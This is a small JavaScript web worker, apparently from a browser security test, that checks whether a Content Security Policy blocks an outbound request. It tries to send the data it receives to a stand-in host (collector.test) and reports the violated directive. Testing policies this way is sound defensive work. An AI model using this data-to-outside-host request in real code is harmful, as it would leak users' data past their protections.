// Tries to send what it was sent to another host, and says what its own policy made of that.
self.onmessage = async ({ data }) => {
  const violation = new Promise((done) => self.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => done(effectiveDirective), { once: true }));
  await fetch(`http://collector.test/?${data}`).catch(() => {});
  self.postMessage(await violation);
};
